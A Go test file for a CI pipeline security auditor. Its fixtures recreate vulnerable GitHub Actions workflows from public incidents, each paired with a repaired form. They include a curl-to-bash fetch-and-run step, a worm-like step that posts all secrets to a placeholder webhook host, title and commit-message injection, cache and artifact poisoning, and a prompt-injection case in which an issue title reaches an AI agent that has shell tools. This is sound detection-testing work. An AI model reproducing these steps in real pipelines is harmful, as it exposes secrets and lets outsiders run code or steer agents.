package audit

import (
	"slices"
	"strings"
	"testing"

	"github.com/ossay-dev/ossay/internal/core/finding"
	"github.com/ossay-dev/ossay/internal/inspect/pipeline/rules"
)

// An incident is a pipeline as it was by the public reports, cut to what
// mattered, what must be found in it, and the pipeline as it should have been.
type incident struct {
	name   string
	before []File
	want   []string // rule, file and line: "template-injection .github/workflows/x.yml:9"
	after  []File   // regular runs say nothing of it
}

func wf(name, text string) []File {
	return files(".github/workflows/"+name+".yml", strings.TrimPrefix(text, "\n"))
}

const pinned = "11bd71901bbe5b1630ceea73d27597364c9af683"

func incidents() []incident {
	return append(append(movedTags(), injections()...), append(checkouts(), carried()...)...)
}

func movedTags() []incident {
	return []incident{
		{
			name: "tags of a popular action were moved to a commit that printed secrets (March 2025)",
			before: wf("lint", `
name: lint
on: pull_request
permissions:
  contents: read
jobs:
  lint:
    runs-on: ubuntu-latest
    steps:
      - uses: tj-actions/changed-files@v45
      - run: make lint
`),
			want: []string{"unpinned-uses .github/workflows/lint.yml:9"},
			after: wf("lint", `
name: lint
on: pull_request
permissions:
  contents: read
jobs:
  lint:
    runs-on: ubuntu-latest
    steps:
      - uses: tj-actions/changed-files@`+pinned+` # v46.0.1
      - run: make lint
`),
		},
		{
			name: "an upload script from a web address was changed on the server (April 2021)",
			before: wf("ci", `
name: ci
on: push
permissions: {}
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: make test
      - run: bash <(curl -s https://uploads.example.com/bash)
        env:
          TOKEN: ${{ secrets.UPLOAD_TOKEN }}
`),
			want: []string{"unverified-script-exec .github/workflows/ci.yml:9"},
			after: wf("ci", `
name: ci
on: push
permissions: {}
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: make test
      - run: |
          curl -sSo uploader https://uploads.example.com/v0.8.0/uploader
          echo "0123456789abcdef  uploader" | sha256sum --check
          chmod +x uploader && ./uploader
        env:
          TOKEN: ${{ secrets.UPLOAD_TOKEN }}
`),
		},
		{
			name: "a worm planted workflows that sent all secrets away (September 2025)",
			before: wf("shai-hulud-workflow", `
name: format
on: push
permissions: {}
jobs:
  process:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d "$CONTENTS" https://webhook.example.com/x
        env:
          CONTENTS: ${{ toJSON(secrets) }}
`),
			want: []string{"overprovisioned-secrets .github/workflows/shai-hulud-workflow.yml:10"},
			after: wf("deploy", `
name: deploy
on: push
permissions: {}
jobs:
  process:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d "$CONTENTS" https://webhook.example.com/x
        env:
          CONTENTS: ${{ secrets.DEPLOY_NOTE }}
`),
		},
	}
}

func injections() []incident {
	return []incident{
		{
			name: "the title of a pull request ran in a workflow with the publishing token (August 2025)",
			before: wf("pr-title", `
name: pr title
on:
  pull_request_target:
    types: [opened, edited]
permissions: {}
jobs:
  validate:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "Validating PR title: ${{ github.event.pull_request.title }}"
          node scripts/commit-lint.js
        env:
          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}
`),
			want: []string{"template-injection .github/workflows/pr-title.yml:11", "dangerous-triggers .github/workflows/pr-title.yml:2"},
			after: wf("pr-title", `
name: pr title
on:
  pull_request:
    types: [opened, edited]
permissions: {}
jobs:
  validate:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "Validating PR title: ${TITLE}"
          node scripts/commit-lint.js
        env:
          TITLE: ${{ github.event.pull_request.title }}
`),
		},
		{
			name: "names of changed files became options of a tool in a run with rights (October 2024)",
			before: wf("editorconfig", `
name: editorconfig
on: pull_request_target
permissions: {}
jobs:
  check:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@`+pinned+` # v4.2.2
        with:
          ref: refs/pull/${{ github.event.pull_request.number }}/merge
          persist-credentials: false
      - run: cat "$HOME/changed_files" | xargs -r editorconfig-checker
      - run: ./ci/check.sh
`),
			want: []string{"untrusted-checkout-exec .github/workflows/editorconfig.yml:13", "dangerous-triggers .github/workflows/editorconfig.yml:2"},
			after: wf("editorconfig", `
name: editorconfig
on: pull_request
permissions: {}
jobs:
  check:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@`+pinned+` # v4.2.2
        with:
          persist-credentials: false
      - run: ./ci/check.sh
`),
		},
		{
			name: "an issue told a model what to do, and its tools did it (February 2026)",
			before: wf("triage", `
name: triage
on:
  issues:
    types: [opened]
permissions: {}
jobs:
  triage:
    runs-on: ubuntu-latest
    permissions:
      issues: write # answers
    steps:
      - uses: anthropics/claude-code-action@`+pinned+` # v1.0.0
        with:
          prompt: |
            Triage this issue.
            Title: ${{ github.event.issue.title }}
          claude_args: --allowed-tools Bash
      - uses: actions/setup-node@`+pinned+` # v5.0.0
`),
			want: []string{"prompt-injection .github/workflows/triage.yml:14"},
			after: wf("triage", `
name: triage
on:
  issues:
    types: [opened]
permissions: {}
jobs:
  triage:
    runs-on: ubuntu-latest
    permissions:
      issues: write # labels
    steps:
      - run: gh issue edit "$NUMBER" --add-label triage
        env:
          NUMBER: ${{ github.event.issue.number }}
`),
		},
		{
			name: "the message of a commit set variables of later steps (2024)",
			before: wf("preview", `
name: preview
on:
  workflow_run:
    workflows: [ci]
permissions: {}
jobs:
  publish:
    runs-on: ubuntu-latest
    steps:
      - run: echo "MESSAGE=$MESSAGE" >> "$GITHUB_ENV"
        env:
          MESSAGE: ${{ github.event.workflow_run.head_commit.message }}
      - run: node upload.js
`),
			want: []string{"github-env .github/workflows/preview.yml:10", "dangerous-triggers .github/workflows/preview.yml:2"},
			after: wf("preview", `
name: preview
on: push
permissions: {}
jobs:
  publish:
    runs-on: ubuntu-latest
    steps:
      - run: node upload.js
        env:
          MESSAGE: ${{ github.event.head_commit.message }}
`),
		},
	}
}

func checkouts() []incident {
	return []incident{
		{
			name: "a comment let a fork's code run beside a token (2024)",
			before: wf("ecosystem", `
name: ecosystem
on: issue_comment
permissions: {}
jobs:
  test:
    if: contains(github.event.comment.body, '!test')
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@`+pinned+` # v4.2.2
        with:
          ref: refs/pull/${{ github.event.issue.number }}/head
          persist-credentials: false
      - run: npm ci
        env:
          TOKEN: ${{ secrets.NPM_TOKEN }}
`),
			want: []string{"untrusted-checkout-exec .github/workflows/ecosystem.yml:13", "checkout-toctou .github/workflows/ecosystem.yml:9"},
			after: wf("ecosystem", `
name: ecosystem
on: pull_request
permissions: {}
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@`+pinned+` # v4.2.2
        with:
          persist-credentials: false
      - run: npm ci
`),
		},
		{
			name: "pull requests ran on machines that lived on (December 2023)",
			before: wf("build", `
name: build
on: [push, pull_request]
permissions: {}
jobs:
  build:
    runs-on: [self-hosted, linux, gpu]
    steps:
      - uses: actions/checkout@`+pinned+` # v4.2.2
      - run: make
`),
			want: []string{"pr-runs-on-self-hosted .github/workflows/build.yml:5", "artipacked .github/workflows/build.yml:8"},
			after: wf("build", `
name: build
on: [push, pull_request]
permissions: {}
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@`+pinned+` # v4.2.2
        with:
          persist-credentials: false
      - run: make
`),
		},
		{
			name: "a fork's benchmark wrote the cache that the release with its identity restored (May 2026)",
			before: append(wf("bench", `
name: bench
on: pull_request_target
permissions: {}
jobs:
  bench:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@`+pinned+` # v4.2.2
        with:
          ref: ${{ github.event.pull_request.head.sha }}
          persist-credentials: false
      - uses: actions/cache@`+pinned+` # v4.2.0
        with: {path: node_modules, key: modules}
      - run: pnpm install && pnpm bench
`), wf("release", `
name: release
on:
  push:
    tags: ["v*"]
permissions: {}
jobs:
  release:
    runs-on: ubuntu-latest
    permissions:
      id-token: write # trusted publishing
    steps:
      - uses: actions/cache@`+pinned+` # v4.2.0
        with: {path: node_modules, key: modules}
      - run: npm publish --provenance
`)...),
			want: []string{
				"untrusted-checkout-exec .github/workflows/bench.yml:14", "dangerous-triggers .github/workflows/bench.yml:2",
				"cache-poisoning .github/workflows/release.yml:12",
			},
			after: append(wf("bench", `
name: bench
on: pull_request
permissions: {}
jobs:
  bench:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@`+pinned+` # v4.2.2
        with:
          persist-credentials: false
      - run: pnpm install --frozen-lockfile && pnpm bench
`), wf("release", `
name: release
on:
  push:
    tags: ["v*"]
permissions: {}
jobs:
  release:
    runs-on: ubuntu-latest
    environment: release
    permissions:
      id-token: write # trusted publishing
    steps:
      - run: npm ci
      - run: npm publish --provenance
`)...),
		},
		{
			name: "a bot's name opened the way for a merge nobody looked at (2025)",
			before: wf("automerge", `
name: automerge
on: pull_request_target
permissions: {}
jobs:
  merge:
    if: github.actor == 'dependabot[bot]'
    runs-on: ubuntu-latest
    permissions:
      contents: write # merges
      pull-requests: write # approves
    steps:
      - run: gh pr merge --auto --squash "$URL"
        env:
          URL: ${{ github.event.pull_request.html_url }}
          GH_TOKEN: ${{ github.token }}
`),
			want: []string{"bot-conditions .github/workflows/automerge.yml:6", "confused-deputy-auto-merge .github/workflows/automerge.yml:12", "dangerous-triggers .github/workflows/automerge.yml:2"},
			after: wf("automerge", `
name: automerge
on: pull_request
permissions: {}
jobs:
  merge:
    if: github.event.pull_request.user.login == 'dependabot[bot]'
    runs-on: ubuntu-latest
    permissions:
      contents: write # merges
      pull-requests: write # approves
    steps:
      - run: gh pr merge --auto --squash "$URL"
        env:
          URL: ${{ github.event.pull_request.html_url }}
          GH_TOKEN: ${{ github.token }}
`),
		},
		{
			name: "an artefact of a fork's run replaced the script that the next run started (2023)",
			before: wf("comment", `
name: comment
on:
  workflow_run:
    workflows: [build]
permissions: {}
jobs:
  comment:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@`+pinned+` # v4.2.2
        with:
          persist-credentials: false
      - uses: actions/download-artifact@`+pinned+` # v4.3.0
        with:
          run-id: ${{ github.event.workflow_run.id }}
      - run: ./scripts/comment.sh
`),
			want: []string{"artifact-poisoning .github/workflows/comment.yml:16", "dangerous-triggers .github/workflows/comment.yml:2"},
			after: wf("comment", `
name: comment
on: pull_request
permissions: {}
jobs:
  comment:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@`+pinned+` # v4.2.2
        with:
          persist-credentials: false
      - uses: actions/download-artifact@`+pinned+` # v4.3.0
      - run: ./scripts/comment.sh
`),
		},
	}
}

func TestIncidentsAreFoundAndTheirRepairedFormsAreSilent(t *testing.T) {
	for _, in := range incidents() {
		t.Run(in.name, func(t *testing.T) {
			found, _ := Audit(in.before, rules.Options{})
			var got []string
			for _, f := range found {
				got = append(got, strings.TrimPrefix(f.Rule, "pipeline/")+" "+strings.Join(strings.Split(f.Span.String(), ":")[:2], ":"))
			}
			for _, w := range in.want {
				if !slices.Contains(got, w) {
					t.Errorf("%s is not among %v", w, got)
				}
			}
			left, _ := Audit(in.after, rules.Options{})
			for _, f := range left {
				t.Errorf("the repaired form: %s %s: %s", f.Span, f.Rule, f.Message)
			}
		})
	}
}

func TestFixesOfIncidentsLeaveFilesThatWork(t *testing.T) {
	opt := rules.Options{Commit: func(string, string) (string, bool) { return pinned, true }}
	for _, in := range incidents() {
		changed, _ := Fix(in.before, opt, true)
		var after []File
		for _, f := range in.before {
			if data, ok := changed[f.Path]; ok {
				f.Data = data
			}
			after = append(after, f)
		}
		left, _ := Audit(after, opt)
		for _, f := range left {
			if f.Rule == "pipeline/syntax" {
				t.Errorf("%s: %s: %s", in.name, f.Span, f.Message)
			}
			if f.Fix != nil && len(f.Fix.Edits) > 0 && f.Status == finding.Open {
				t.Errorf("%s: %s is still there with a fix", in.name, f.Rule)
			}
		}
	}
}
